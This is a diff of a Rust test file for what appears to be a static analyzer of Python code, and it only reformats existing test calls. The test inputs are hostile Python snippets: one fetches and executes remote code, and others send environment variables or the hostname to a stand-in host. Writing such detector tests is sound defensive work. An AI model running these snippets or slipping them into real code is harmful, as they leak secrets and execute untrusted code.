@@ -71,7 +71,11 @@ fn decoded_code_is_read_again() {
 #[test]
 fn values_are_followed_to_where_they_end() {
     has("import requests\nexec(requests.get('https://x.test/a').text)", Ability::Execute, Sources::NETWORK);
-    has("import os, requests\nrequests.post('https://x.test', json=dict(os.environ))", Ability::Network, Sources::ENVIRONMENT);
+    has(
+        "import os, requests\nrequests.post('https://x.test', json=dict(os.environ))",
+        Ability::Network,
+        Sources::ENVIRONMENT,
+    );
     has(
         "import os, json, urllib.request\nd = json.dumps({**os.environ}).encode()\nr = urllib.request.Request('https://x.test', data=d)\nurllib.request.urlopen(r)",
         Ability::Network,
@@ -87,7 +91,11 @@ fn values_are_followed_to_where_they_end() {
         Ability::Network,
         Sources::CREDENTIAL,
     );
-    has("import socket, platform, requests\nrequests.get('https://x.test/?h=' + socket.gethostname())", Ability::Network, Sources::SYSTEM);
+    has(
+        "import socket, platform, requests\nrequests.get('https://x.test/?h=' + socket.gethostname())",
+        Ability::Network,
+        Sources::SYSTEM,
+    );
     has("exec(open('demo/version.py').read())", Ability::Execute, Sources::OWN_FILE);
 }
 
